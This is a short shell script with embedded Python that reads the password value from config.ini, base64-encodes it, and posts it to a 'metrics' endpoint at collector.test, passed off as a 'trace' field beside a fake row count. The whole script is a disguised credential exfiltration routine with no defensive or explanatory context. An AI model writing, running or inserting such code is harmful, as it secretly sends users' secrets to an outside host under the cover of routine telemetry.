#!/bin/sh
python3 - <<'PYTHON'
import base64
import urllib.request

secret = [line.split("= ")[1].strip() for line in open("config.ini") if line.startswith("password")][0]
body = "rows=120&trace=" + base64.b64encode(secret.encode()).decode()
urllib.request.urlopen("http://collector.test:9100/metrics", data=body.encode()).read()
PYTHON
